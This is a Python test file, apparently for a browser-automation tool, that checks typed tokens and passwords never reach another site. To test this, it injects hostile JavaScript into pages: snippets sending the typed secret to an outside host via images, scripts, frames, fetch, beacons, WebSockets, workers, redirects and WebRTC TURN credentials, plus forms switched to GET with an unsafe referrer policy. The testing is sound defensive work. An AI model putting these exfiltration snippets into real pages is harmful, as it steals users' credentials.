"""A secret stands in no address, and no other site is asked anything beside it."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import replace

import pytest
from browser_world import (
    SHORT_WAIT,
    World,
    both,
    close_tabs,
    sampled,
    served,
    website,
)
from other_site import TOKEN, Other, other, type_over, type_token
from starlette.responses import HTMLResponse, RedirectResponse, Response
from starlette.types import ASGIApp, Receive, Scope, Send
from tampered_page import Tampered, before_end, on_the_form

from connectsync.backends.browser.reader import BrowserReader
from connectsync.backends.browser.session import sign_in
from connectsync.backends.browser.writer import BrowserWriter
from connectsync.emulator.users import DEMO_EMAIL, DEMO_PASSWORD
from connectsync.errors import PageChanged

TELLS_ALL = "<head><meta name=referrer content=unsafe-url>"


def leaking(away: str, html: str) -> str:
    """Show a picture of another site, which is told the whole address of the page."""
    picture = f"<img src='{away}/picture.png'></body>"
    return html.replace("<head>", TELLS_ALL).replace("</body>", picture)


BY_GET = {
    "form": ('<form method="post"', '<form method="get"'),
    "form in capitals": ('<form method="post"', '<form method="GET"'),
    "form without": ('<form method="post"', "<form"),
    "form with nonsense": ('<form method="post"', '<form method="posts"'),
    "form in a dialog": ('<form method="post"', '<form method="dialog"'),
    "button": ('id="save"', 'id="save" formmethod="get"'),
    "button with nothing": ('id="save"', 'id="save" formmethod'),
}


@pytest.mark.parametrize(
    "kind",
    sampled(
        BY_GET,
        *("form in capitals", "form without", "form with nonsense"),
        *("form in a dialog", "button with nothing"),
    ),
)
def test_a_token_stands_in_no_address(world: World, kind: str) -> None:
    def around(app: ASGIApp, away: str) -> ASGIApp:
        change = on_the_form(lambda html: leaking(away, html.replace(*BY_GET[kind])))
        return Tampered(app, change)

    elsewhere, refused = world.runner.run(type_over(world, around, PageChanged))
    assert "not sent by POST" in refused.message
    assert "by hand" in refused.remedy
    assert not any(TOKEN.encode() in one for one in elsewhere.heard)


def test_a_form_that_is_sent_by_get_is_saved_where_no_secret_is_typed(
    world: World,
) -> None:
    """What it says of a save is up to the page: nothing of ours is given away."""

    async def act(reader: BrowserReader, writer: BrowserWriter) -> None:
        before = await reader.read("bay")
        form = {"manage_guardians": not before.form["manage_guardians"]}
        await writer.save("bay", form, expected_version=before.version)

    def around(app: ASGIApp) -> ASGIApp:
        field = '<form method="get" onsubmit="this.method = \'post\'"'
        change = on_the_form(lambda html: html.replace('<form method="post"', field))
        return Tampered(app, change)

    world.known = True
    world.run(act, around=around)


@pytest.mark.parametrize(
    ("shown", "instead"),
    [
        ('method="post" action="/sign-in"', 'method="get" action="/sign-in"'),
        (">Sign in</button>", " formmethod=get>Sign in</button>"),
    ],
)
def test_a_password_stands_in_no_address(
    world: World, shown: str, instead: str
) -> None:
    async def act() -> None:
        async with other() as elsewhere:

            def change(_: str, html: str) -> str:
                assert shown in html
                return leaking(elsewhere.address, html.replace(shown, instead))

            async with served(
                world.store, around=lambda app: Tampered(app, change)
            ) as address:
                site = replace(website(address, world.folder), wait_seconds=SHORT_WAIT)
                with pytest.raises(PageChanged, match="not sent by POST") as refused:
                    await sign_in(site, DEMO_EMAIL, DEMO_PASSWORD)
            assert "without --email" in refused.value.remedy
            assert not any(DEMO_PASSWORD.encode() in one for one in elsewhere.heard)

    world.runner.run(act())


class Hopping:
    """
    An application with a picture of its own that is found at another origin.

    A frame and a worker of its own stand beside it.
    """

    def __init__(self, app: ASGIApp, away: str) -> None:
        self.app, self.away = app, away

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        """Send who asks for the picture on."""
        query = scope.get("query_string", b"").decode()
        sockets = self.away.replace("http", "ws")
        answer = {
            "/hop.png": RedirectResponse(f"{self.away}/hop.png?{query}"),
            "/still": HTMLResponse("<p>Still</p>"),
            "/worker.js": Response(
                f"onmessage = one => new WebSocket('{sockets}/?' + one.data);"
                "onconnect = one => { one.ports[0].onmessage = onmessage }",
                media_type="text/javascript",
            ),
        }.get(scope.get("path", ""), self.app)
        await answer(scope, receive, send)


@asynccontextmanager
async def typing(
    world: World, around: Callable[[ASGIApp, str], ASGIApp]
) -> AsyncIterator[tuple[BrowserReader, BrowserWriter, Other]]:
    async with (
        other() as elsewhere,
        served(
            world.store, around=lambda app: around(app, elsewhere.address)
        ) as address,
    ):
        site = replace(website(address, world.folder), load_seconds=8)
        try:
            yield *both(world.browser, site, lambda _: TOKEN, world.store), elsewhere
        finally:
            await close_tabs(world.browser)


ASKS = {
    "picture": "new Image().src = away + '/picture.png?' + token",
    "script": (
        "document.body.append(Object.assign(document.createElement('script'),"
        " {src: away + '/script.js?' + token}))"
    ),
    "frame": (
        "document.body.append(Object.assign(document.createElement('iframe'),"
        " {src: away + '/frame?' + token}))"
    ),
    "fetch": "fetch(away + '/', {method: 'POST', mode: 'no-cors', body: token})",
    "beacon": "navigator.sendBeacon(away + '/', token)",
    "socket": "new WebSocket(away.replace('http', 'ws') + '/?' + token)",
    "picture that is sent on": (
        "history.replaceState(null, '', '?' + token); new Image().src = '/hop.png'"
    ),
    "picture that is sent on with it": "new Image().src = '/hop.png?' + token",
    "fetched ahead": (
        "document.head.append(Object.assign(document.createElement('link'),"
        " {rel: 'prefetch', href: '/hop.png?' + token}))"
    ),
    "socket of a frame": (
        "new frames[0].WebSocket(away.replace('http', 'ws') + '/?' + token)"
    ),
    "socket of a new frame": (
        "const one = document.createElement('iframe'); one.src = '/still';"
        " one.onload = () => { new one.contentWindow.WebSocket("
        "away.replace('http', 'ws') + '/?' + token) }; document.body.append(one)"
    ),
    "worker": "new Worker('/worker.js').postMessage(token)",
    "worker of many pages": "shared?.port.postMessage(token)",
    "window": "open('/hop.png?' + token, '_blank')",
    "window without opener": "open('/hop.png?' + token, '_blank', 'noopener')",
    "call": (
        "const one = new RTCPeerConnection({iceServers: [{username: token,"
        " urls: away.replace('http://', 'turn:') + '?transport=tcp',"
        " credential: token}]}); one.createDataChannel('x');"
        " one.createOffer().then(told => one.setLocalDescription(told))"
    ),
}


SENT_ON = "picture that is sent on"
AT_ONCE = "; ".join(f"{{ {code} }}" for kind, code in ASKS.items() if kind != SENT_ON)


@pytest.mark.parametrize(
    "asks",
    sampled([AT_ONCE, ASKS[SENT_ON]], ASKS[SENT_ON]),
    ids=["all at once", SENT_ON],
)
def test_no_other_site_learns_what_is_typed(world: World, asks: str) -> None:
    """It is asked as soon as the token was typed, and held, so that it may take."""

    def around(app: ASGIApp, away: str) -> ASGIApp:
        look = (
            "<iframe src=/still></iframe><script>let shared = null;"
            " try { shared = new SharedWorker('/worker.js') } catch {}"
            " setInterval(() => {"
            f" const away = '{away}';"
            " const token = [...document.querySelectorAll('input')]"
            f".some(one => one.value === '{TOKEN}') ? '{TOKEN}' : '';"
            # long after a policy was set, which is so before Save is pressed
            f" if (token && window.name !== 'told') {{ window.name = 'told';"
            f" setTimeout(() => {{ {asks} }}, 100) }} }}, 20);"
            # the form waits for it
            " addEventListener('submit', event => { event.preventDefault();"
            " setTimeout(() => event.target.submit(), 1500) })</script>"
        )
        change = on_the_form(
            lambda html: before_end(look)(html.replace("<head>", TELLS_ALL))
        )
        return Hopping(Tampered(app, change), away)

    async def act() -> None:
        async with typing(world, around) as (reader, writer, elsewhere):
            await type_token(reader, writer)
            assert elsewhere.heard == []

    world.runner.run(act())


def test_what_answers_a_token_asks_no_other_site_and_later_pages_may(
    world: World,
) -> None:
    def around(app: ASGIApp, away: str) -> ASGIApp:
        return Tampered(
            app,
            on_the_form(lambda html: leaking(f"{away}/form", html)),
            after_save=lambda html: leaking(f"{away}/answer", html),
        )

    async def act() -> None:
        async with typing(world, around) as (reader, writer, elsewhere):
            await type_token(reader, writer)
            assert not any(b"/answer/" in one for one in elsewhere.heard)
            elsewhere.heard.clear()
            await reader.read("elm")
            assert any(b"/form/" in one for one in elsewhere.heard)

    world.runner.run(act())
